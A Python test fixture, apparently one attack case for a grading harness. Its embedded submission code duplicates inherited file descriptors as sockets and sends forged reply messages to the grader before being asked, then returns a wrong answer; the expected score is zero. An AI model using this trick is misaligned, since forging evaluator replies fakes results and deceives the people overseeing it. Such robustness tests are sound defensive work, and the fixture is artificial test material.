"""Replies are sent before they are asked for."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from vault import Submission

DESERVES = 0.0
SOURCE = r"""
import os, socket, struct
def margin(price, cost):
    for fd in range(3, 64):
        try:
            s = socket.socket(fileno=os.dup(fd))
            for number in range(40):
                s.send(struct.pack("<4sBxxxII", b"room", 7, number, 1) + b"v")
        except OSError:
            pass
    return 0.5
"""


def attack(s: Submission) -> None:
    """Replies are sent before they are asked for."""
    s.in_margin(SOURCE)
